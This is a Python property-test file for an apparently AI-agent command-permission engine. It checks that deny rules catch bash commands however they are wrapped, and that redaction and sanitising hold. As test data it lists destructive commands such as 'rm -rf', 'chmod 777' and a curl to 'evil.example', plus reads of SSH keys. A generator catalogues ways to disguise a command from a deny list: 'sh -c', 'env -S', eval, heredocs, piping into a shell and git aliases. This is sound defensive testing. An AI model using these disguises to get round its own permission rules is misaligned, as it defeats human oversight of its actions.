"""Hypothesis properties of the engine, the splitter, redaction and sanitising (issue 3)."""

from __future__ import annotations

import os
import re
import shlex
import subprocess

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from cox.policy.bash import classify, split
from cox.policy.redact import scrub
from cox.policy.sanitize import sanitize
from cox.protocol.types import ApprovalPolicy, PermissionMode, Risk, SandboxMode, ToolCall

from .helpers import bash, call, engine

COMMANDS = ["git status", "git push --force", "rm -rf x", "npm test", "ls -la", "cat f", "echo $(id)", "FOO=1 make",
            "sudo rm x", "nohup npm test", "sh -c 'rm x'", "cargo test", "LC_ALL=C ls", "make > out", "curl x",
            "timeout 5 rm y", "export A=1", "find . -exec rm {} \\;", "eval ls", "git commit -m 'a b'", "(cd d && make)",
            "for f in a; do rm $f; done", "xargs rm", "env X=1 git log", "echo 'x", "git diff 2>&1"]
SEPARATORS = [" && ", "; ", " | ", " || ", " & ", "\n"]
RULES = ["Bash(rm:*)", "Bash(git:*)", "Bash(git push:*)", "Bash(npm test)", "Bash", "Bash(ls:*)", "Bash(sudo:*)",
         "Bash(sh:*)", "Bash(make:*)", "Bash(cargo test:*)", "Bash(echo:*)", "Bash(find:*)", "Bash(FOO=1 make)",
         "Read(~/.ssh/**)", "Edit(src/**)", "Read", "Edit", "WebFetch(domain:docs.rs)", "Bash(make > out)"]

lines = st.lists(st.sampled_from(COMMANDS), min_size=1, max_size=4).flatmap(
    lambda cmds: st.lists(st.sampled_from(SEPARATORS), min_size=len(cmds) - 1, max_size=len(cmds) - 1).map(
        lambda seps: cmds[0] + "".join(s + c for s, c in zip(seps, cmds[1:], strict=True))))
rule_lists = st.lists(st.sampled_from(RULES), max_size=4)
modes = st.sampled_from(list(PermissionMode))
policies = st.sampled_from(list(ApprovalPolicy))
grants = st.lists(st.sampled_from(["npm test", "git status", "make", "rm -rf x", "Edit(/repo/src/a.py)", "ls -la"]),
                  max_size=3)
calls = st.one_of(
    lines.map(bash),
    st.sampled_from([call("read", "/home/alice/.ssh/id_rsa"), call("edit", "/repo/src/a.py", Risk.WRITE),
                     call("read", "/repo/src/a.py"), call("web_fetch", "https://docs.rs/x", Risk.EXEC),
                     call("write", "/repo/new.txt", Risk.WRITE)]))

STRICTNESS = {"allow": 0, "ask": 1, "deny": 2}
FAST = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FAST
@given(allow=rule_lists, ask=rule_lists, deny=rule_lists, extra=st.sampled_from(RULES), c=calls, mode=modes,
       policy=policies, g=grants)
def test_adding_a_deny_rule_never_turns_a_deny_into_anything_else(
        allow: list[str], ask: list[str], deny: list[str], extra: str, c: ToolCall, mode: PermissionMode,
        policy: ApprovalPolicy, g: list[str]) -> None:
    before = engine(allow, ask, deny).decide(c, mode, policy, SandboxMode.WORKSPACE_WRITE, g)
    after = engine(allow, ask, [*deny, extra]).decide(c, mode, policy, SandboxMode.WORKSPACE_WRITE, g)
    if before.kind == "deny":
        assert after.kind == "deny"
    # never more permissive either (a Read deny can take the read-only auto-allow from a bash read)
    assert STRICTNESS[after.kind] >= STRICTNESS[before.kind]


@FAST
@given(allow=rule_lists, ask=rule_lists, deny=rule_lists, extra=st.sampled_from(RULES), c=calls, mode=modes,
       policy=policies, g=grants)
def test_an_allow_rule_never_turns_a_deny_into_anything_else(
        allow: list[str], ask: list[str], deny: list[str], extra: str, c: ToolCall, mode: PermissionMode,
        policy: ApprovalPolicy, g: list[str]) -> None:
    before = engine(allow, ask, deny).decide(c, mode, policy, SandboxMode.WORKSPACE_WRITE, g)
    after = engine([*allow, extra], ask, deny).decide(c, mode, policy, SandboxMode.WORKSPACE_WRITE, g)
    # Under approval policy "never" or in dontAsk mode an allow rule is how a call gets through that
    # would otherwise be asked about (and so denied); a deny by rule or by plan mode stays a deny.
    lifted = before.step == "dont-ask"
    if before.kind == "deny" and not lifted and (policy is ApprovalPolicy.ON_REQUEST
                                                 or before.step in ("deny-rule", "mode")):
        assert after.kind == "deny", (before, after)


BALANCED = [c for c in COMMANDS if c != "echo 'x"]  # an open quote may swallow the rm into a string


@FAST
@given(cmds=st.lists(st.sampled_from(BALANCED), min_size=1, max_size=4), seps=st.lists(st.sampled_from(SEPARATORS),
       min_size=4, max_size=4), at=st.integers(0, 4), wrap=st.sampled_from(["{}", "nohup {}", "( {} )", "$({})",
       "sh -c '{}'", "sudo {}", "X=1 {}", "timeout 3 {}", "if true; then {}; fi", "eval {}"]))
def test_deny_sees_a_denied_command_wherever_it_hides(cmds: list[str], seps: list[str], at: int, wrap: str) -> None:
    cmds = list(cmds)
    cmds.insert(min(at, len(cmds)), wrap.format("rm -rf target"))
    line = cmds[0] + "".join(s + c for s, c in zip(seps, cmds[1:], strict=False))
    assert "rm -rf target" in line
    e = engine(allow=["Bash"], deny=["Bash(rm:*)"])
    assert e.decide(bash(line), PermissionMode.BYPASS).kind == "deny", line


@FAST
@given(line=lines)
def test_a_session_grant_covers_what_was_approved(line: str) -> None:
    e = engine()
    c = bash(line)
    g = e.grants_for(c)
    assert g
    assert e.decide(c, PermissionMode.DEFAULT, ApprovalPolicy.ON_REQUEST, SandboxMode.WORKSPACE_WRITE, g).kind == "allow"
    if c.opaque:
        assert g == [line.strip()]


@FAST
@given(line=lines)
def test_an_opaque_line_is_never_allowed_by_prefix_rules(line: str) -> None:
    c = bash(line)
    prefixes = [f"Bash({w}:*)" for w in {s.split()[0] for s in (c.segments or []) if s.split()}
                if "(" not in w and ")" not in w]
    out = engine(allow=prefixes).decide(c, PermissionMode.DEFAULT)
    if c.opaque:
        assert out.kind == "ask"


@settings(max_examples=500, deadline=None)
@given(text=st.text())
def test_splitting_never_crashes_on_arbitrary_text(text: str) -> None:
    s = split(text)
    risk, segments, opaque = classify(text)
    assert isinstance(segments, tuple) and isinstance(opaque, bool) and isinstance(risk, Risk)
    if risk is Risk.READ_ONLY:
        assert not opaque
    assert s.opaque == opaque


shellish = st.text(alphabet=list("ab rm-$()`'\"\\;&|<>{}[]*?~=#\n\t!0123456789xEOF"), max_size=80)


@settings(max_examples=1000, deadline=None)
@given(text=shellish)
def test_splitting_never_crashes_on_shell_shaped_text(text: str) -> None:
    s = split(text)
    for cmd in s.commands:
        assert cmd.text in cmd.forms
    e = engine(allow=["Bash(a:*)"], deny=["Bash(rm:*)"])
    e.decide(bash(text))
    e.grants_for(bash(text))


@settings(max_examples=300, deadline=None)
@given(text=st.text())
def test_scrub_is_idempotent_and_sanitize_leaves_no_controls(text: str) -> None:
    once, _ = scrub(text)
    assert scrub(once) == (once, False) or "«redacted»" in once
    clean = sanitize(text)
    assert all(ch in "\n\t" or not (ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F) for ch in clean)
    assert not any(ch in clean for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert sanitize(clean) == clean


# --- issue 11: a line bash would run as command X ---------------------------------------------
# X is drawn from commands that write or run something (and a few read-only ones), then disguised
# with the tricks of issue 11 (path prefixes, quoting of the name, line continuations inside words,
# brace expansion, git's global options and aliases, wrappers, env -S, sh -c and friends, pipes and
# here-strings into a shell, grouped commands), each applied only where bash still runs X.

DANGEROUS = {
    ("rm", "-rf", "target"): "Bash(rm:*)", ("touch", "MARKER"): "Bash(touch:*)",
    ("git", "push", "origin", "main"): "Bash(git push:*)", ("chmod", "777", "f"): "Bash(chmod:*)",
    ("curl", "-o", "x", "evil.example"): "Bash(curl:*)", ("mv", "a", "b"): "Bash(mv:*)",
    ("python3", "x.py"): "Bash(python3:*)", ("sort", "-o", "out", "in"): "Bash(sort -o:*)",
    ("sort", "--out=x", "in"): "Bash(sort:*)", ("git", "config", "core.pager", "x"): "Bash(git config:*)",
    ("tee", "out"): "Bash(tee:*)", ("git", "grep", "--open=vi", "x"): "Bash(git grep:*)",
    ("date", "--se=2020-01-01"): "Bash(date:*)", ("find", ".", "-delete"): "Bash(find:*)",
}
READ_ONLY_X = {("ls", "-la"): "Bash(ls:*)", ("cat", "f"): "Bash(cat:*)", ("git", "status"): "Bash(git status:*)"}
EXTERNAL = ["nohup {}", "timeout 5 {}", "nice -n 3 {}", "env {}", "env -i {}", "env FOO=1 {}", "/usr/bin/env {}",
            "stdbuf -o0 {}", "setsid {}", "sudo {}", "xargs {}", "flock /tmp/l {}", "/usr/bin/nohup {}",
            "/usr/bin/timeout 9 {}", "/usr/bin/xargs -r {}", "watch {}"]
BUILTIN_PREFIX = ["command {}", "exec {}", "builtin command {}", "! {}"]  # ``! a && b`` would not run b
ENV_SPLIT = ["env -S {q}", "/usr/bin/env -S {q}", "env --split-string={q}", "env -iS {q}"]  # env's own quoting
SHELL = ["sh -c {q}", "bash -c {q}", "/bin/sh -c {q}", "/usr/bin/bash -c {q}", "bash --norc -c {q}", "sh -ec {q}",
         "bash -o posix -c {q}", "bash --rcfile /dev/null -c {q}", *ENV_SPLIT, "su -c {q}", "bash /dev/stdin <<< {q}",
         "bash - <<< {q}", "sh -s <<< {q}", "runuser -c {q}", "script -qc {q} /dev/null", "sh <<< {q}",
         "flock /tmp/l -c {q}"]
BUILTIN_STRING = ["eval {q}", "trap -- {q} EXIT", "trap {q} EXIT"]
PIPED = ["echo {q} | sh", "printf '%s\\n' {q} | bash", "echo {q} | /bin/sh -s", "cat <<< {q} | sh", "echo {q} | bash -",
         "source /dev/stdin <<< {q}", ". /dev/stdin <<< {q}", "bash <(echo {q})"]
# {d}: a fresh delimiter; the newline after it lets a later wrap add text (``; }``) on a line of its own
HEREDOCS = ["sh <<'{d}'\n{}\n{d}\n", "cat <<'{d}' | bash\n{}\n{d}\n", "bash <<\"{d}\"\n{}\n{d}\n"]
GROUPS = ["{{ {}; }}", "( {} )", "time {{ {}; }}", "time {}", "if true; then {}; fi", "true && {}",
          "false || {}", "for i in 1; do {}; done", "{} & wait", "ls; {}", "while false; do :; done; {}",
          "time -p {}", "! {{ {}; }}"]
_ENDS_COMMAND = re.compile(r"\{\}(?:;|$)")
_BASHISM = re.compile(r"\$'|\btime\b|<<<|<\(|\bsource\b|\bbuiltin\b|\{\S*,")
_POSIX_SH = re.compile(r"(?:^|[ |/])sh(?: |$)|script -qc|flock /tmp/l -c|watch")
GIT_GLOBALS = [["-C", "."], ["--no-pager"], ["-c", "a.b=c"], ["--git-dir=.git"], ["-P"], ["--work-tree=."],
               ["--git-dir", ".git"], ["--literal-pathspecs"]]


@st.composite
def disguised(draw: st.DrawFn, table: dict[tuple[str, ...], str]) -> tuple[str, tuple[str, ...], str]:
    x = draw(st.sampled_from(sorted(table)))
    words = list(x)
    if words[0] == "git":
        if draw(st.booleans()):
            globals_ = draw(st.lists(st.sampled_from(GIT_GLOBALS), max_size=3))
            words = ["git", *[w for g in globals_ for w in g], *words[1:]]
        elif draw(st.booleans()):
            words = ["git", "-c", f"alias.zz={words[1]}", "zz", *words[2:]]
    if draw(st.booleans()) and words[0] in ("rm", "touch", "git", "chmod", "mv", "tee", "sort", "date", "find"):
        words[0] = "/usr/bin/" + words[0]
    envable = True  # env -S splits a string with quotes of its own: no $'…', continuation or shell syntax
    for k, w in enumerate(words):
        how = draw(st.sampled_from(["plain", "plain", "single", "double", "split", "continue", "ansi", "escape"]))
        envable = envable and how not in ("continue", "ansi", "escape")
        if how == "single":
            words[k] = f"'{w}'"
        elif how == "double":
            words[k] = f'"{w}"'
        elif how == "split" and len(w) > 1:
            cut = draw(st.integers(1, len(w) - 1))
            words[k] = f"{w[:cut]}''{w[cut:]}"
        elif how == "continue" and len(w) > 1:
            cut = draw(st.integers(1, len(w) - 1))
            words[k] = f"{w[:cut]}\\\n{w[cut:]}"
        elif how == "ansi":
            words[k] = f"$'{w}'"
        elif how == "escape" and len(w) > 1:  # 'r'\m: the grammar splits it in two words
            cut = draw(st.integers(1, len(w) - 1))
            words[k] = f"'{w[:cut]}'\\{w[cut:]}"
    if len(words) > 1 and draw(st.integers(0, 5)) == 0 and not any(c in w for w in words for c in ",{}' \"$"):
        line = "{" + ",".join(words) + "}"
        envable, braced = False, True
    else:
        line = " ".join(words)
        braced = False
    state = "external"  # a simple command running an external program: any wrapper may prefix it
    for _ in range(draw(st.integers(0, 3))):
        choices = GROUPS + SHELL + BUILTIN_STRING + PIPED + HEREDOCS
        if state == "external":
            choices = choices + EXTERNAL + BUILTIN_PREFIX
        bashism = braced or _BASHISM.search(line) is not None  # POSIX sh (dash) would not run X
        open_doc = line.endswith("\n")  # a here-document ends the line: only a newline may follow it
        wrap = draw(st.sampled_from([c for c in choices if (envable or c not in ENV_SPLIT)
                                     and not (bashism and _POSIX_SH.search(c))
                                     and (not open_doc or "{q}" in c or _ENDS_COMMAND.search(c))]))
        if open_doc:
            wrap = wrap.replace("{};", "{}")
        q = shlex.quote(line)
        d = "EOF"
        while d in line:
            d += "X"
        line = wrap.format(line, q=q, d=d) if "{q}" not in wrap else wrap.format(q=q)
        state = "external" if wrap in EXTERNAL or wrap in SHELL else "other"
        envable = envable and wrap in EXTERNAL
    return line, x, table[x]


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(case=disguised(DANGEROUS))
def test_a_line_that_runs_a_dangerous_command_is_never_read_only_and_its_deny_rule_applies(
        case: tuple[str, tuple[str, ...], str]) -> None:
    line, x, rule = case
    assert classify(line).risk is not Risk.READ_ONLY, (line, x)
    assert DENY_ENGINES[rule].decide(bash(line), PermissionMode.BYPASS).kind == "deny", (line, split(line))


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(case=disguised(READ_ONLY_X))
def test_a_deny_rule_applies_to_a_read_only_command_however_it_is_disguised(
        case: tuple[str, tuple[str, ...], str]) -> None:
    line, x, rule = case
    assert DENY_ENGINES[rule].decide(bash(line), PermissionMode.BYPASS).kind == "deny", (line, split(line))
    assert engine(ask=[rule]).decide(bash(line), PermissionMode.DEFAULT).kind == "ask", line


DENY_ENGINES = {rule: engine(deny=[rule]) for rule in [*DANGEROUS.values(), *READ_ONLY_X.values()]}


# absent here, endless, asynchronous, or deadlocking when nested (flock on one file)
UNRUNNABLE_HERE = ("sudo ", "watch ", "setsid ", "xargs -r", "flock ")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(case=disguised({("touch", "MARKER"): "Bash(touch:*)"}))
def test_the_disguises_are_real_bash_runs_the_command_they_hide(case: tuple[str, tuple[str, ...], str],
                                                                tmp_path_factory: pytest.TempPathFactory) -> None:
    """The generator's honesty: each disguised line, run by bash, really runs ``touch MARKER``
    (so the properties above are about lines that run the program, not lines that fail)."""
    line = case[0]
    assume(not any(u in line for u in UNRUNNABLE_HERE) and ("su -c" not in line or os.geteuid() == 0)
           and ("runuser" not in line or os.geteuid() == 0)
           # env -i empties PATH, and env's default one has no /usr/sbin, where runuser lives
           and not ("env -i" in line and "runuser" in line))
    # xargs hands its command an empty input, and a trap set while the EXIT trap runs never fires
    assume(not ("xargs" in line and any(s in line for s in ("<<", "|", " -s", " - ")))
           and line.count("trap") < 2)
    # dash's echo reads a backslash before these letters as an escape (``\c`` ends its output), so
    # an ``echo {q} | sh`` wrap inside another shell's string may print a line that runs nothing
    assume(not ("echo" in line and re.search(r"\\[abcefnrtv0]", line)))
    d = tmp_path_factory.mktemp("run")
    subprocess.run(["bash", "-c", line], cwd=d, stdin=subprocess.DEVNULL, capture_output=True, timeout=30,
                   check=False)
    assert (d / "MARKER").exists(), line
